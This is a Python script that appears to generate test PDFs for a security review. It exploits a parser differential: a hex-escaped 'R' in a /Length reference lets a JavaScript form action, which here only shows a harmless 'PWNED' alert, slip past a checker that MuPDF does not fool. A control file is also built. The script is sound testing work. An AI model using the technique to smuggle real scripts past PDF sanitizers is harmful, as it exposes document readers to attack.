#!/usr/bin/env python3
"""Review 28: an uncompressed object stream whose /Length reference is
written "7 0 #52" (MuPDF decodes the keyword R), so that the check reads
a short direct length while MuPDF reads object 7's (long) one, past the
check's endstream into the next stream's data, where object 12's
"<< /JS (...) >>" lies.  A Tx widget in the text has /AA << /F 12 0 R >>.

  len-r-hex    /Length 7 0 #52 (object 7 = the long length)
  len-r-ctl    control: /Length 7 0 R
"""
import os, sys
OUT = os.environ.get("OUT", os.path.dirname(os.path.abspath(__file__)))
JSF = b"<< /JS (app.alert\\('PWNED by F script'\\); event.value = 'PWNED';) >>"

def build(v):
    ref = b"7 0 R" if v == "len-r-ctl" else b"7 0 #52"
    b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    def obj(n, body):
        offs[n] = len(b); b.extend(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    obj(1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [ 4 0 R ] /NeedAppearances true /DA (/Helv 12 Tf 0 g) "
           b"/DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> >>")
    obj(2, b"<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 300 200 ] /Annots [ 4 0 R ] >>")
    obj(4, b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /DA (/Helv 12 Tf 0 g) "
           b"/Rect [ 20 100 280 140 ] /F 4 /P 3 0 R /AA << /F 12 0 R >> >>")
    # object stream 5: its data as the check sees it ends at the first endstream
    head5 = b"5 0 obj\n<< /N 1 /Length " + ref + b" >>\nstream\n"
    offs[5] = len(b)
    b += head5
    d0 = len(b)
    hdr_tmpl = b"12 %05d\n"
    mid = b"\nendstream\nendobj\n8 0 obj\n<< /Length %05d >>\nstream\n"
    # where object 12 lands, relative to d0
    pos = len(hdr_tmpl % 0) + len(mid % 0)
    b += hdr_tmpl % pos
    offs[8] = len(b) + 1 + len(b"endstream\nendobj\n")
    data8 = JSF + b"\n"
    b += mid % len(data8)
    assert len(b) - d0 == pos
    b += data8 + b"endstream\nendobj\n"
    total = pos + len(JSF) + 2
    obj(7, b"%d" % total)
    # xref stream
    offs[9] = len(b)
    rows = []
    for n in range(13):
        if n == 12:
            rows.append((2, 5, 0))
        elif n in offs:
            rows.append((1, offs[n], 0))
        else:
            rows.append((0, 0, 65535 if n == 0 else 0))
    data = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
    b += b"9 0 obj\n<< /Type /XRef /Size 13 /W [ 1 4 2 ] /Root 1 0 R /Length %d >>\nstream\n" % len(data) + data + b"\nendstream\nendobj\n"
    b += b"startxref\n%d\n%%%%EOF\n" % offs[9]
    return bytes(b)

for v in (sys.argv[1:] or ["len-r-hex", "len-r-ctl"]):
    open(os.path.join(OUT, v + ".pdf"), "wb").write(build(v)); print(v)
